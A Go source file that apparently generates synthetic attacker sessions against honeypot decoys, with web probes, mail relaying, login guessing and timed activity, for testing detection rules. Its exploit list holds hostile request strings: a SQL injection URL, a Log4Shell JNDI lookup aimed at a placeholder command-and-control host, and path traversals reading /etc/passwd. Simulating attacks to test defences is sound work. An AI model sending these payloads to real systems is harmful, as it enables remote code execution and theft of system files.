package sample

import (
	"slices"
	"time"
)

// visit makes an attacker's sessions: up to n, one act after the other and on more and more deckies, until the end of the
// data.
func (b *block) visit(a *attacker, n int) {
	th := a.kit.theme
	at, here := a.first, ""
	for i := range n {
		current := th.acts[th.repeat:][(i+len(th.acts)-th.repeat)%(len(th.acts)-th.repeat)]
		if i < len(th.acts) {
			current = th.acts[i]
		}
		if i == 0 && b.chance(th.web) {
			s := b.probe(a, at)
			at = s.end.Add(b.wait(time.Minute, time.Hour))
		}
		if th.mail && (i == 0 || b.chance(0.7)) {
			s := b.relay(a, at)
			at = s.end.Add(b.wait(time.Minute, 3*time.Hour))
		}
		here = b.place(current, here)
		s := b.play(a, current, here, at)
		at = s.end.Add(b.pause(i))
		if at.After(present.Add(-6 * time.Hour)) {
			break
		}
	}
	a.last = a.sessions[len(a.sessions)-1].end
}

// pause returns the time to the next session: minutes at first, then days.
func (b *block) pause(i int) time.Duration {
	if i < 2 && b.chance(0.6) {
		return b.wait(3*time.Minute, 2*time.Hour)
	}
	return b.wait(2*time.Hour, 60*time.Hour)
}

// place returns the decky for an act: the current one, unless the act moves on or the decky lacks the service.
func (b *block) place(c act, here string) string {
	choice := offering[c.service]
	if !c.hop && slices.Contains(choice, here) {
		return here
	}
	next := pick(b.dice, choice)
	if next == here {
		next = pick(b.dice, choice)
	}
	return next
}

// open starts a session.
func (b *block) open(a *attacker, service, decky string, at time.Time) *session {
	s := &session{id: b.uuid4(), service: service, decky: decky, start: at, end: at.Add(b.wait(time.Second, 20*time.Second))}
	a.sessions = append(a.sessions, s)
	return s
}

// play adds the lines of an act to a session.
func (b *block) play(a *attacker, c act, decky string, at time.Time) *session {
	s := b.open(a, c.service, decky, at)
	if s.login = b.chance(a.kit.theme.logins); s.login {
		s.end = s.end.Add(b.wait(5*time.Second, 4*time.Minute))
		a.guesses += b.between(6, 60)
	}
	fast, slow := 60*time.Millisecond, 900*time.Millisecond
	if a.kit.typed {
		fast, slow = 1500*time.Millisecond, 25*time.Second
	}
	for _, name := range c.parts {
		for _, st := range a.kit.part(b.dice, name) {
			if b.chance(0.08) {
				continue // a person skips some steps
			}
			s.end = s.end.Add(b.wait(fast, slow))
			s.lines = append(s.lines, line{text: st.text, at: s.end, rules: st.rules})
		}
		for _, sg := range fragments[name].signs {
			if b.chance(0.7) {
				sg.value = a.kit.words.Replace(sg.value)
				s.signs = append(s.signs, sg)
			}
		}
	}
	s.end = s.end.Add(b.wait(100*time.Millisecond, 5*time.Second))
	return s
}

// request is an HTTP request that a rule matches.
type request struct {
	rule, url, agent string
	at               time.Time
}

// exploits lists the requests of a probe; the kit replaces the word in braces.
var exploits = []request{
	{rule: "R0007", url: "/product.php?id=7%20AND%201=1", agent: "sqlmap/1.8.4#stable (https://sqlmap.org)"},
	{rule: "R0008", url: "/?q=${jndi:ldap://{c2host}:1389/a}"},
	{rule: "R0009", url: "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"},
	{rule: "R0009", url: "/static/../../../../etc/passwd"},
}

// probe makes exploit requests to a web decky.
func (b *block) probe(a *attacker, at time.Time) *session {
	service := pick(b.dice, []string{"http", "http", "https"})
	s := b.open(a, service, pick(b.dice, offering[service]), at)
	for _, r := range some(b.dice, exploits, b.between(1, len(exploits))) {
		s.end = s.end.Add(b.wait(30*time.Millisecond, 2*time.Second))
		r.at = s.end
		r.url = a.kit.words.Replace(r.url)
		if r.agent == "" {
			r.agent = a.kit.agent
		}
		s.asks = append(s.asks, r)
	}
	return s
}

// relay makes mails through a mail decky.
func (b *block) relay(a *attacker, at time.Time) *session {
	s := b.open(a, "smtp", pick(b.dice, offering["smtp"]), at)
	for range b.between(1, 4) {
		s.end = s.end.Add(b.wait(2*time.Second, 3*time.Minute))
		s.mails = append(s.mails, b.compose(s.end))
	}
	return s
}
